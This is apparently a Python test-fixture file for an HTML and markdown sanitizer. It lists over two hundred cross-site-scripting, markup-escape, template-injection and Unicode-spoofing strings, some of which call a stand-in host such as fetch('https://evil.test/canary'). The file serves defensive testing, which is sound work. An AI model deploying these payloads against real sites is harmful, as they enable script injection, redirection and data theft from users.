"""Texts that would run a script, load something or lead away if the page took any of them for more than text. Scripts
count in window.hits; everything to be loaded has `canary` in its address."""

SCRIPTS = ["hits++", "alert(1)", "fetch('https://evil.test/canary')", "location='https://evil.test/canary'"]
ADDRESSES = ["javascript:hits++", "JaVaScRiPt:hits++", "java\tscript:hits++", "javascript&colon;hits++",
             "&#106;avascript:hits++", "data:text/html,<script>hits++</script>", "vbscript:hits++",
             "blob:https://evil.test/canary", "https://evil.test/canary", "//evil.test/canary", "/canary", "\\\\evil.test\\canary",
             "file:///etc/canary", "view-source:https://evil.test/canary"]

ELEMENTS = [
    *[f"<script>{code}</script>" for code in SCRIPTS],
    "<script src=https://evil.test/canary.js></script>", "<script type=module>hits++</script>",
    "<scr<script>ipt>hits++</script>", "<SCRIPT\n>hits++</SCRIPT\n>", "<script/x>hits++</script>", "<script>hits++",
    *[f"<img src={address}>" for address in ADDRESSES],
    "<img src=x onerror=hits++>", "<img/src=x/onerror=hits++>", "<img src=x:x onerror=\"hits++\">",
    "<img srcset='https://evil.test/canary 1x'>", "<image href=https://evil.test/canary>", "<img src=`x`onerror=hits++>",
    *[f"<svg><script>{code}</script></svg>" for code in SCRIPTS],
    "<svg onload=hits++>", "<svg/onload=hits++>", "<svg><animate onbegin=hits++ attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=hits++>#x'>", "<svg><a xlink:href=javascript:hits++><text>x",
    "<svg><style>@import'https://evil.test/canary'</style>", "<svg><image href=https://evil.test/canary></svg>",
    "<svg><foreignObject><iframe onload=hits++></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hits++>", "<math href=javascript:hits++>x</math>",
    "<math><annotation-xml encoding=text/html><script>hits++</script>",
    *[f"<iframe src=\"{address}\"></iframe>" for address in ADDRESSES], "<iframe srcdoc='<script>parent.hits++</script>'>",
    *[f"<a href=\"{address}\">go</a>" for address in ADDRESSES], "<a href=# onclick=hits++ autofocus onfocus=hits++>",
    "<object data=https://evil.test/canary>", "<embed src=https://evil.test/canary>", "<base href=https://evil.test/>",
    "<object data='data:text/html,<script>hits++</script>'>", "<portal src=https://evil.test/canary>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/canary'>", "<link rel=stylesheet href=https://evil.test/canary>",
    "<link rel=prefetch href=https://evil.test/canary>", "<link rel=import href=https://evil.test/canary>",
    "<style>*{background:url(https://evil.test/canary)}</style>", "<style>@import url(https://evil.test/canary)</style>",
    "<div style='background:url(https://evil.test/canary)'>", "<p style=\"width:expression(hits++)\">",
    "<form action=https://evil.test/canary><input autofocus onfocus=hits++><button>go", "<input type=image src=https://evil.test/canary>",
    "<button formaction=javascript:hits++ autofocus>go", "<isindex action=javascript:hits++ type=image>",
    "<video src=https://evil.test/canary onerror=hits++>", "<video><source onerror=hits++></video>",
    "<video poster=https://evil.test/canary>", "<audio src=https://evil.test/canary autoplay>", "<track src=https://evil.test/canary>",
    "<body onload=hits++>", "<html onmouseover=hits++>", "<frameset onload=hits++>", "<marquee onstart=hits++>",
    "<details open ontoggle=hits++>", "<select autofocus onfocus=hits++>", "<textarea autofocus onfocus=hits++>",
    "<keygen autofocus onfocus=hits++>", "<dialog open onclose=hits++>", "<table background=https://evil.test/canary>",
    "<template><script>hits++</script></template>", "<noscript><img src=x onerror=hits++></noscript>",
    "<noscript><p title=\"</noscript><img src=x onerror=hits++>\">", "<textarea></textarea><img src=x onerror=hits++>",
    "<title></title><img src=x onerror=hits++>", "<xmp></xmp><img src=x onerror=hits++>", "<plaintext>",
    "<!--><img src=x onerror=hits++>-->", "<!--", "]]><img src=x onerror=hits++>", "<![CDATA[<script>hits++</script>]]>",
    "<?xml-stylesheet href=https://evil.test/canary ?>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'https://evil.test/canary'>]>&y;",
    "<x onclick=hits++ tabindex=0 autofocus onfocus=hits++>", "<slot onslotchange=hits++>", "<custom-element is=canary>",
]
BROKEN_OUT = [
    "\"><img src=x onerror=hits++>", "'><img src=x onerror=hits++>", "--><img src=x onerror=hits++>", "</p><script>hits++</script>",
    "</script><script>hits++</script>", "</style><script>hits++</script>", "</textarea><script>hits++</script>",
    "\" onmouseover=hits++ x=\"", "' onfocus=hits++ autofocus x='", "` onerror=hits++", "\"-hits++-\"", "';hits++;//",
    "&lt;script&gt;hits++&lt;/script&gt;", "&#60;script&#62;hits++&#60;/script&#62;", "\\u003cscript\\u003ehits++\\u003c/script\\u003e",
    "%3Cscript%3Ehits++%3C/script%3E", "＜script＞hits++＜/script＞", "<\x00script>hits++</script>", "<script\u2028>hits++</script>",
    "+ADw-script+AD4-hits+-+ADw-/script+AD4-", "{{constructor.constructor('hits++')()}}", "${hits++}", "<%= hits++ %>", "#{hits++}",
    "{%import os%}", "__proto__", "constructor", "toString", "hasOwnProperty", "<__proto__ onload=hits++>",
]
MARKDOWN = [
    *[f"[go]({address})" for address in ADDRESSES], *[f"![see]({address})" for address in ADDRESSES],
    *[f"<{address}>" for address in ADDRESSES],
    "[go][1]\n\n[1]: javascript:hits++", "[1](javascript:hits++)", "[x](<javascript:hits++>)", "[x](javascript:hits++ \"title\")",
    "[![see](https://evil.test/canary)](javascript:hits++)", "```html\n<script>hits++</script>\n```", "```\n<img src=x onerror=hits++>",
    "`<img src=x onerror=hits++>`", "    <script>hits++</script>", "> <script>hits++</script>", "- <img src=x onerror=hits++>",
    "# <svg onload=hits++>", "| <script>hits++</script> | x |\n| --- | --- |\n| <img src=x onerror=hits++> | y |",
    "**<img src=x onerror=hits++>**", "*[x](javascript:hits++)*", "~~<iframe src=javascript:hits++>~~", "https://evil.test/canary",
    "www.evil.test/canary", "[1] [2] [99] [-1] [1<img src=x onerror=hits++>]", "\\<script>hits++\\</script>",
    "![](x\"onerror=hits++)", "[a]: https://evil.test/canary\n![a]", "<details><summary>x</summary><script>hits++</script></details>",
]
UNICODE = [
    "\u202egnp.exe\u202c", "\u2066\u2067\u2068hidden\u2069", "\u200b\u200c\u200d\ufeff", "e\u0301" * 40, "\u0000\u0001\u001b[31m\u007f",
    "\ud83d\ude00" .encode("utf-16", "surrogatepass").decode("utf-16"), "\u2028\u2029", "а" "ррӏе.com", "\u0600" * 30, "ﷺ" * 10,
    "\ufff9\ufffa\ufffb", "x" * 5000, "<" * 300, "[" * 300, "*" * 300, "> " * 200, "- " * 200, "`" * 301,
]
TEXTS = ELEMENTS + BROKEN_OUT + MARKDOWN + UNICODE
assert len(TEXTS) >= 200 and len(set(TEXTS)) == len(TEXTS)
